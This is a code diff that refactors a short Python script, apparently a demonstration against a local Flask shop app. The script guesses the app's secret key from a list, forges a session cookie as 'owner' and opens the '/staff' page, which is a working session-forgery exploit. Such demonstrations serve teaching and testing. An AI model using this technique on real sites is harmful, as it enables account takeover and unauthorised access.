@@ -19,28 +19,21 @@ def signer(key):
     return SecureCookieSessionInterface().get_signing_serializer(mine)
 
 
-def guessed(cookie):
-    """Return the key that signed this cookie, if it is one of the guesses."""
-    for key in GUESSES:
-        try:
-            signer(key).loads(cookie)
-        except BadSignature:
-            continue
-        return key
-    return None
-
-
 def attack():
     """Get a cookie, find its key, and come back as the owner."""
     visitor = shop.test_client()
     visitor.post("/login")
     cookie = visitor.get_cookie("session").value
     print("it says:", base64_decode(cookie.partition(".")[0]))
-    key = guessed(cookie)
-    print("key:", key)
-    forged = signer(key or "a guess").dumps({"user": "owner"})
-    visitor.set_cookie("session", forged)
-    print("staff:", visitor.get("/staff").text)
+    for key in GUESSES:
+        try:
+            signer(key).loads(cookie)
+        except BadSignature:
+            continue
+        print("its key:", key)
+        forged = signer(key).dumps({"user": "owner"})
+        visitor.set_cookie("session", forged)
+    print(visitor.get("/staff").text)
 
 
 attack()
